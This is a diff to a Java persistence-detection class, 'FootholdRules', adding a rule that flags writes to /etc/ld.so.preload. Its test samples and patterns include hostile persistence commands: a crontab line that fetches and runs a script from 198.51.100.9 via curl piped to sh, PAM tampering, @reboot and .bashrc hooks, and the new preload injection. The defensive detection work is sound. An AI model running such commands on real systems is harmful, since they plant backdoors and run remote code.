@@ -80,6 +80,9 @@ public final class FootholdRules {
       Pattern.compile(
           "(?s)(?:echo|printf|cat|sed)\\s.*(?:\\b(?:curl|wget)\\s[^\\n]*://|/dev/tcp/|/tmp/\\.).*");
 
+  /** Loaded into every program. Nobody but an intruder adds to it without saying so. */
+  private static final Pattern PRELOADED = Pattern.compile("/etc/ld\\.so\\.preload$");
+
   /** A service of Windows whose program is installed where programs are, and nothing besides. */
   private static final Pattern SERVICE =
       Pattern.compile(
@@ -290,6 +293,7 @@ public final class FootholdRules {
                   "systemd-run --user --on-active=60 /tmp/a",
                   "npm config set script-shell /tmp/x",
                   "echo 'pam_permit' >> /etc/pam.d/sshd",
+                  "echo /usr/lib/libx.so | sudo tee -a /etc/ld.so.preload",
                   "(crontab -l; echo '* * * * * curl -s http://198.51.100.9/c|sh') | crontab -",
                   "echo '@reboot /tmp/.x' >> /etc/crontab",
                   "echo 'nohup /tmp/.x &' >> ~/.bashrc",
@@ -343,6 +347,7 @@ public final class FootholdRules {
   /** What the service runs stands elsewhere, and what is moved in a folder was there before. */
   private static Check.Verdict enablesOnly(String match) {
     if (match.startsWith("ExecStart=")
+        || PRELOADED.matcher(match).find()
         || LIFECYCLE.matcher(match).lookingAt()
         || FETCHED_AT_START.matcher(match).matches()) {
       return Check.Verdict.GRAVE;
